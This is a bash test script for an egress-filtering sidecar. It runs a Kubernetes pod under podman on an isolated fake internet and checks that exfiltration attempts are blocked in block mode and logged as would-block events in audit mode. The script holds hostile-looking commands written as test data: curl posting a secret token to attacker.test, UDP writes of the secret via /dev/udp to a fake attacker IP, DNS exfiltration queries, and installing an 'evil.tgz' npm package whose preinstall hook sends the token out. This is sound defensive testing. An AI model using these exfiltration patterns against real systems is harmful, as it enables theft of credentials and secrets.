# Sourced by test/container/run.sh after the compose scenarios (issue 15): the Kubernetes runner pod of
# deploy/kubernetes/runner-pod.yaml, run for real with `podman kube play`, on an internal podman network with the
# same fake internet (203.0.113.0/24, no gateway out), and the compose suite's attack scenarios run in its runner
# container. Uses run.sh's check, seen/never_seen, RECORDS_DIR, FIXTURE_DIR, images and TAG; cleans up after itself.

POD_NET="egpod$$"
POD_DIR="$WORK/pod"
PODMAN=${PODMAN:-podman}
POD_IMAGES=("localhost/$EGRESS_IMAGE" "localhost/$TESTBED_IMAGE")
# What `kube play` makes for itself on first use (a default network, the pause image): removed again if it did.
POD_OWN_NET=0
POD_OWN_PAUSE=0
$PODMAN network exists podman-default-kube-network 2>/dev/null || POD_OWN_NET=1
[ -n "$($PODMAN images -q --filter reference=localhost/podman-pause 2>/dev/null)" ] || POD_OWN_PAUSE=1
# The pod's named volumes (its emptyDirs and ConfigMap): `kube down` of podman 4.3 leaves them, and one left by a run
# that was killed kept a lock number that podman's lock memory no longer had, so a later play hung for good (seen: every
# try of two runs hung until `podman system renumber`). Removed again if this run made them.
POD_OWN_VOLUMES=()
for volume in egress-guard-policy netlog run state; do
  $PODMAN volume exists "$volume" 2>/dev/null || POD_OWN_VOLUMES+=("$volume")
done

pod_cleanup() {
  pod_down
  $PODMAN rm -f -t 1 "egpod-internet-$TAG" "egpod-attacker-$TAG" >/dev/null 2>&1
  $PODMAN network rm -f "$POD_NET" >/dev/null 2>&1
  [ ${#POD_OWN_VOLUMES[@]} -eq 0 ] || $PODMAN volume rm -f "${POD_OWN_VOLUMES[@]}" >/dev/null 2>&1
  $PODMAN rmi -f "${POD_IMAGES[@]}" >/dev/null 2>&1
  [ "$POD_OWN_NET" = 0 ] || $PODMAN network rm -f podman-default-kube-network >/dev/null 2>&1
  if [ "$POD_OWN_PAUSE" = 1 ]; then
    local pause
    for pause in $($PODMAN images -q --filter reference=localhost/podman-pause 2>/dev/null); do $PODMAN rmi -f "$pause" >/dev/null 2>&1; done
  fi
}

pod_setup() {
  if ! command -v "$PODMAN" >/dev/null; then
    fatal "podman is not installed (scripts/setup-test-host.sh installs it)"
  fi
  # podman raises a root container's open-files and process limits to its own defaults (1048576, 4194304); a
  # sandbox whose hard limits are lower refuses that. The pod gets this machine's own open-files limit instead.
  printf '[containers]\ndefault_ulimits = ["nofile=%s:%s", "nproc=4096:4096"]\n' "$(ulimit -Hn)" "$(ulimit -Hn)" >"$WORK/containers.conf"
  export CONTAINERS_CONF="$WORK/containers.conf"
  # The compose network used the same range: it must be gone before podman's bridge takes it.
  dc down -v --remove-orphans --timeout 5 >/dev/null 2>&1
  mkdir -p "$POD_DIR"
  : >"$RECORDS_DIR/internet.ndjson"
  : >"$RECORDS_DIR/attacker.ndjson"
  $DOCKER save "$EGRESS_IMAGE" "$TESTBED_IMAGE" | $PODMAN load -q >/dev/null || fatal "podman load of the images"
  $PODMAN network create --internal --subnet 203.0.113.0/24 "$POD_NET" >/dev/null || fatal "podman network"
  for fixture in internet:203.0.113.10 attacker:203.0.113.66; do
    $PODMAN run -d --name "egpod-${fixture%%:*}-$TAG" --network "$POD_NET" --ip "${fixture#*:}" \
      -v "$FIXTURE_DIR:/fixture:ro" -v "$RECORDS_DIR:/records" "localhost/$TESTBED_IMAGE" \
      node /src/dist/test/e2e/internet-fixture.js "/fixture/${fixture%%:*}.json" >/dev/null || fatal "podman run ${fixture%%:*}"
  done
}

# The pod's containers by name, removed after a failed play and between the two modes (kube down missed one it had made).
pod_down() {
  $PODMAN kube down "$POD_DIR/pod.yaml" >/dev/null 2>&1
  $PODMAN pod rm -f -t 1 egress-runner >/dev/null 2>&1
  $PODMAN rm -f -t 1 egress-runner-egress-rules egress-runner-egress-guard egress-runner-egress-netlog egress-runner-runner >/dev/null 2>&1
}

# pod_play MODE: the pod and its ConfigMap exactly as deploy/kubernetes/ has them, images and mode (block or audit) filled in.
pod_play() {
  local mode=$1
  EGRESS_IMAGE="localhost/$EGRESS_IMAGE" RUNNER_IMAGE="localhost/$TESTBED_IMAGE" EGRESS_MODE=$mode EGRESS_DNS_UPSTREAM=203.0.113.10 \
    envsubst '$EGRESS_IMAGE $RUNNER_IMAGE $EGRESS_MODE $EGRESS_DNS_UPSTREAM' <"$ROOT/deploy/kubernetes/runner-pod.yaml" >"$POD_DIR/pod.yaml"
  # The test's names for the real ones, and its documentation range trusted (as a user trusts a private registry).
  sed -e 's/^      github.com$/      allowed.test/' -e 's/^      registry.npmjs.org$/      registry.test/' -e "s/^    mode: block$/    mode: $mode/" \
    -e '$a\    trusted-ranges: [203.0.113.0/24]' "$ROOT/deploy/kubernetes/policy-configmap.yaml" >"$POD_DIR/configmap.yaml"
  grep -q "^    mode: $mode$" "$POD_DIR/configmap.yaml" || fatal "the ConfigMap's policy has no mode line to set to $mode"
  # podman 4.3 may try to remove a finished init container while it is still exiting, and fail the play; or hang in a
  # lock wait, the pod's infra container created and never started (seen once: 12 minutes, futex wait, until the
  # suite's own timeout). Each try is bounded (a play takes seconds here), and what a failed one made is removed by
  # name before the next.
  local attempt
  for attempt in 1 2 3; do
    timeout -k 10 120 $PODMAN kube play --network "$POD_NET" --configmap "$POD_DIR/configmap.yaml" "$POD_DIR/pod.yaml" >"$POD_DIR/play.log" 2>&1 && break
    echo "container: podman kube play ($mode) failed or timed out (try $attempt of 3, exit $?)" >&2
    [ "$attempt" = 3 ] && { cat "$POD_DIR/play.log" >&2; fatal "podman kube play ($mode)"; }
    pod_down
  done
  # A pod on a cluster has a default route; this internal network gives none, and without a route the kernel
  # refuses a packet (ENETUNREACH) before the nat rules could redirect it (DNS to the pod's resolver). An on-link
  # default route, added from the host in the pod's namespace, leads nowhere but the internal bridge.
  local infra pid
  infra=$($PODMAN pod inspect egress-runner --format '{{.InfraContainerID}}') && pid=$($PODMAN inspect "$infra" --format '{{.State.Pid}}') \
    && nsenter -t "$pid" -n ip route replace default dev eth0 || fatal "default route in the pod"
  local i
  for i in $(seq 1 60); do
    pod_guard node -e "fetch('http://127.0.0.1:9090/healthz').then((r) => process.exit(r.ok ? 0 : 1), () => process.exit(1))" 2>/dev/null && break
    sleep 0.5
  done
  # The runner has no mount for the fixture (the pod is the deployable one): its CA and packages are copied in.
  $PODMAN cp "$FIXTURE_DIR/." "egress-runner-runner:/tmp/fixture" || fatal "podman cp fixture"
}

pod_runner() { $PODMAN exec egress-runner-runner bash -c "$1"; }
pod_guard() { $PODMAN exec egress-runner-egress-guard "$@"; }
POD_CURL="curl -sS --max-time 8 --cacert /tmp/fixture/ca.pem"

p_ready() { pod_guard node -e "fetch('http://127.0.0.1:9090/healthz').then((r) => process.exit(r.ok ? 0 : 1), () => process.exit(1))"; }
p_users() {
  # The job runs as 1001 without privileges; egress-guard as 10101: the rules exempt that uid only.
  [ "$(pod_runner 'id -u')" = 1001 ] && [ "$(pod_guard id -u)" = 10101 ] && ! pod_runner 'grep -q "^CapEff:.*[1-9a-f]" /proc/self/status'
}
p_allowed() { [ "$(pod_runner "$POD_CURL -o /dev/null -w '%{http_code}' https://allowed.test/pod-$TAG")" = 200 ] && sleep 0.3 && seen internet "/pod-$TAG"; }
p_exfil() { pod_runner "$POD_CURL -d token=$SECRET https://attacker.test/pod-upload" >/dev/null 2>&1; sleep 0.3; never_seen attacker /pod-upload && never_seen attacker "$SECRET"; }
p_raw_ip() { pod_runner "curl -sk --max-time 8 https://203.0.113.66/pod-raw" >/dev/null 2>&1; never_seen attacker /pod-raw; }
p_dns() {
  pod_runner "dig +tries=1 +time=3 pod1-$R1.attacker.test; dig +tries=1 +time=3 @203.0.113.10 pod2-$R1.attacker.test; dig +tcp +tries=1 +time=3 @203.0.113.10 pod3-$R1.attacker.test" >/dev/null 2>&1
  never_seen internet "pod1-$R1" && never_seen internet "pod2-$R1" && never_seen internet "pod3-$R1"
}
p_udp() { pod_runner "echo pod-udp-$SECRET > /dev/udp/203.0.113.66/4444" >/dev/null 2>&1; sleep 1; never_seen attacker "pod-udp-$SECRET"; }
p_npm() {
  pod_runner "mkdir -p /tmp/pod-evil && cd /tmp/pod-evil && CI_SECRET=$SECRET npm install --no-save --foreground-scripts --cache /tmp/npm-cache /tmp/fixture/evil.tgz >/tmp/pod-npm.log 2>&1"
  never_seen attacker "/preinstall?token=$SECRET"
}
# podman gives a new volume the owner of the first container that mounts it; egress-netlog (root without
# CAP_DAC_OVERRIDE) can write the netlog volume only if that is root (the init container, which starts first).
p_netlog_owner() { [ "$(stat -c %u "$($PODMAN volume inspect netlog --format '{{.Mountpoint}}')")" = 0 ]; }
p_events() { $PODMAN logs egress-runner-egress-guard 2>&1 | grep '"decision":"blocked"' | grep -c '"host":"attacker.test"' | grep -qv '^0$'; }
# The datagram of p_udp never reached egress-guard: its event comes from egress-netlog's NFLOG reports (polled: the
# report goes through the netlog volume and egress-guard's file reader).
p_udp_event() {
  local i
  for i in $(seq 1 20); do
    $PODMAN logs egress-runner-egress-guard 2>&1 | grep '"kind":"udp"' | grep '"ip":"203.0.113.66"' | grep '"port":4444' | grep -q '"decision":"blocked"' && return 0
    sleep 0.5
  done
  return 1
}

# Audit mode never breaks a job and misses nothing: the same pod, the same attacks, each one reaching its server and
# each one a would-block event (from egress-guard's own decisions, and egress-netlog's reports for the UDP datagram).
a_event() { # a_event PATTERN...: a would-block line in egress-guard's log that holds every fixed-string PATTERN (polled)
  local i line pattern
  for i in $(seq 1 20); do
    line=$($PODMAN logs egress-runner-egress-guard 2>&1 | grep '"decision":"would-block"')
    for pattern in "$@"; do line=$(grep -F -- "$pattern" <<<"$line"); done
    [ -n "$line" ] && return 0
    sleep 0.5
  done
  return 1
}
a_allowed() { [ "$(pod_runner "$POD_CURL -o /dev/null -w '%{http_code}' https://allowed.test/pod-audit-$TAG")" = 200 ] && sleep 0.3 && seen internet "/pod-audit-$TAG"; }
a_exfil() {
  [ "$(pod_runner "$POD_CURL -o /dev/null -w '%{http_code}' -d token=$SECRET https://attacker.test/pod-audit-upload")" = 200 ] && sleep 0.3 \
    && seen attacker /pod-audit-upload && a_event '"host":"attacker.test"' '"reason":"not-allowed-endpoint"'
}
a_raw_ip() {
  [ "$(pod_runner "curl -sk --max-time 8 -o /dev/null -w '%{http_code}' https://203.0.113.66/pod-audit-raw")" = 200 ] && sleep 0.3 \
    && seen attacker /pod-audit-raw && a_event '"reason":"raw-ip"' '"ip":"203.0.113.66"'
}
a_dns() {
  pod_runner "dig +tries=1 +time=3 pod-audit1-$R1.attacker.test; dig +tries=1 +time=3 @203.0.113.10 pod-audit2-$R1.attacker.test" >/dev/null 2>&1
  seen internet "pod-audit1-$R1" && seen internet "pod-audit2-$R1" && a_event "pod-audit1-$R1.attacker.test" && a_event "pod-audit2-$R1.attacker.test"
}
a_udp() {
  pod_runner "echo pod-audit-udp-$SECRET > /dev/udp/203.0.113.66/4444" >/dev/null 2>&1
  local i
  for i in $(seq 1 10); do seen attacker "pod-audit-udp-$SECRET" && break; sleep 0.3; done
  seen attacker "pod-audit-udp-$SECRET" && a_event '"kind":"udp"' '"ip":"203.0.113.66"' '"port":4444'
}
a_npm() {
  pod_runner "mkdir -p /tmp/pod-audit-evil && cd /tmp/pod-audit-evil && CI_SECRET=$SECRET NODE_EXTRA_CA_CERTS=/tmp/fixture/ca.pem npm install --no-save --foreground-scripts --cache /tmp/npm-cache /tmp/fixture/evil.tgz >/tmp/pod-audit-npm.log 2>&1" \
    && seen attacker "/preinstall?token=$SECRET"
}

pod_setup
pod_play block
timing "podman pod up (block)"
check "pod: egress-guard ready (its admin port answers the probe path)" p_ready
check "pod: the runner is uid 1001 with no capabilities, egress-guard uid 10101" p_users
check "pod: the netlog volume is root's (egress-netlog can write its reports)" p_netlog_owner
check "pod: allowed.test works from the runner (transparent)" p_allowed
check "pod: curl exfiltration to attacker.test blocked, nothing arrives" p_exfil
check "pod: raw IP https://203.0.113.66/ blocked" p_raw_ip
check "pod: DNS exfiltration via the pod's resolver and straight to the DNS server (UDP, TCP) never arrives" p_dns
check "pod: UDP to 203.0.113.66:4444 dropped" p_udp
check "pod: npm preinstall https.get never reaches attacker.test" p_npm
check "pod: blocked decisions are events in egress-guard's log" p_events
check "pod: the refused UDP datagram is an event too (egress-netlog's NFLOG reports)" p_udp_event
if [ "$FAILED" -gt 0 ]; then
  # What a failed pod stage needs to be understood: the init container's and egress-guard's output, and the rules
  # in the pod's namespace (entered from the host through the infra container's process).
  echo "---- pod: egress-rules (init) ----"; $PODMAN logs egress-runner-egress-rules 2>&1 | tail -20
  echo "---- pod: egress-guard ----"; $PODMAN logs egress-runner-egress-guard 2>&1 | tail -20
  echo "---- pod: egress-netlog ----"; $PODMAN logs egress-runner-egress-netlog 2>&1 | tail -10
  infra=$($PODMAN pod inspect egress-runner --format '{{.InfraContainerID}}' 2>/dev/null)
  pid=$($PODMAN inspect "$infra" --format '{{.State.Pid}}' 2>/dev/null)
  echo "---- pod: iptables (nat, filter) ----"; [ -n "$pid" ] && nsenter -t "$pid" -n iptables-save 2>&1 | grep -E 'EGRESS|^\*' | head -40
  echo "---- pod: runner resolv.conf ----"; pod_runner 'cat /etc/resolv.conf' 2>&1 | head -5
fi
timing "podman pod scenarios (block)"

# The same pod in audit mode, anew: kube down leaves the named volumes, whose policy and netlog file were block mode's.
pod_down
[ ${#POD_OWN_VOLUMES[@]} -eq 0 ] || $PODMAN volume rm -f "${POD_OWN_VOLUMES[@]}" >/dev/null 2>&1
pod_failed_before=$FAILED
pod_play audit
timing "podman pod up (audit)"
check "pod, audit: egress-guard ready" p_ready
check "pod, audit: the netlog volume is root's" p_netlog_owner
check "pod, audit: allowed.test works from the runner" a_allowed
check "pod, audit: curl to attacker.test goes through, a would-block event names it" a_exfil
check "pod, audit: raw IP https://203.0.113.66/ goes through, a would-block raw-ip event" a_raw_ip
check "pod, audit: DNS of a denied name (the pod's resolver, and straight to the DNS server) answered, each a would-block event" a_dns
check "pod, audit: UDP to 203.0.113.66:4444 arrives, a would-block event from egress-netlog's reports" a_udp
check "pod, audit: npm preinstall's https.get reaches attacker.test (the job is not broken)" a_npm
if [ "$FAILED" -gt "$pod_failed_before" ]; then
  echo "---- pod, audit: egress-guard ----"; $PODMAN logs egress-runner-egress-guard 2>&1 | tail -30
  echo "---- pod, audit: egress-netlog ----"; $PODMAN logs egress-runner-egress-netlog 2>&1 | tail -10
  echo "---- pod, audit: volumes (owner, mode) ----"
  for volume in netlog state run; do
    dir=$($PODMAN volume inspect "$volume" --format '{{.Mountpoint}}' 2>/dev/null) && echo "$volume: $(stat -c '%u %a' "$dir") $(ls -ln "$dir" | tail -n +2 | tr '\n' ';')"
  done
fi
pod_cleanup
timing "podman pod scenarios (audit)"
